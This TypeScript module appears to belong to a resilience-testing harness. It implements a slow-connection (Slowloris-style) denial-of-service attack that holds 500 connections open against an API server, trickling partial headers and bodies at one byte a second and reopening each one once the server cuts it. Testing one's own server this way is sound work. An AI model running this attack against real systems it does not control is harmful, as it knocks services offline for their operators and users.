// Attack by slow connections: 500 of them, each opened again as soon as the server cuts it.
import { pause } from "../../processes.ts"
import { bearer, get, head } from "../../threats/requests.ts"
import { type Attack, roundRobin, type Target } from "./Attack.ts"
import { AttackConnection, type Report } from "./AttackConnection.ts"

/** Concurrent connections. */
const connections = 500

/** What is sent at once, and what follows at one byte a second. */
type SlowRequest = (victim: Target) => { readonly first: string; readonly rest: string }

const slowRequests: readonly [SlowRequest, ...ReadonlyArray<SlowRequest>] = [
  () => ({ first: "", rest: `GET /v1/models HTTP/1.1\r\nhost: a\r\nx-a: ${"a".repeat(1_000)}` }),
  ({ keys }) => ({
    first: head("POST /v1/decisions HTTP/1.1", "host: a", bearer(keys.slow), "content-length: 1000"),
    rest: `{"model":"decider-27b","state":"${"a".repeat(900)}`
  }),
  () => ({ first: "", rest: "" }),
  () => ({
    first: get("/v1/models", []),
    rest: `GET /v1/models HTTP/1.1\r\nhost: a\r\nx-b: ${"b".repeat(1_000)}`
  })
]

/** Holds one connection until the server ends it. */
const holdConnection = async (victim: Target, report: Report, turn: number) => {
  const { first, rest } = roundRobin(slowRequests, turn)(victim)
  const wire = new AttackConnection(victim.port, report)
  if (first !== "") await wire.write(first)
  for (let at = 0; at < 120 && !wire.hasEnded; at++) {
    await pause(1_000)
    if (at < rest.length) await wire.write(rest.charAt(at))
  }
  wire.leave("RST")
}

/** Slow headers, slow bodies, nothing at all, and a second request that never ends. */
export const slowConnections: Attack = {
  name: "slow connections",
  every: 5,
  most: connections,
  run: holdConnection
}
